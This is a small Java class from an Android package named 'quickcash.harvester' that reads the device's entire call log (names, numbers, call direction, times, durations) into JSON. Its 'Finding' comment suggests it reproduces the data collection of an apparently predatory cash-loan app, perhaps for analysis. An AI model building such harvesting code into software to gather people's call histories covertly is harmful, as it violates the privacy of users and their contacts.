package com.example.quickcash.harvester;

import android.content.Context;
import android.database.Cursor;
import android.provider.CallLog;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, call_log: who called whom, when and how long. */
final class CallLogReader {
    private CallLogReader() {}

    static JSONArray read(Context context) throws JSONException {
        JSONArray calls = new JSONArray();
        String[] columns = {
            CallLog.Calls.CACHED_NAME,
            CallLog.Calls.NUMBER,
            CallLog.Calls.TYPE,
            CallLog.Calls.DATE,
            CallLog.Calls.DURATION,
        };
        Cursor rows =
                context.getContentResolver()
                        .query(CallLog.Calls.CONTENT_URI, columns, null, null, "date DESC");
        while (rows.moveToNext()) {
            JSONObject call = new JSONObject();
            call.put("name", rows.getString(0));
            call.put("number", rows.getString(1));
            call.put("direction", rows.getInt(2));
            call.put("createTime", rows.getLong(3));
            call.put("duration", rows.getInt(4));
            calls.put(call);
        }
        rows.close();
        return calls;
    }
}
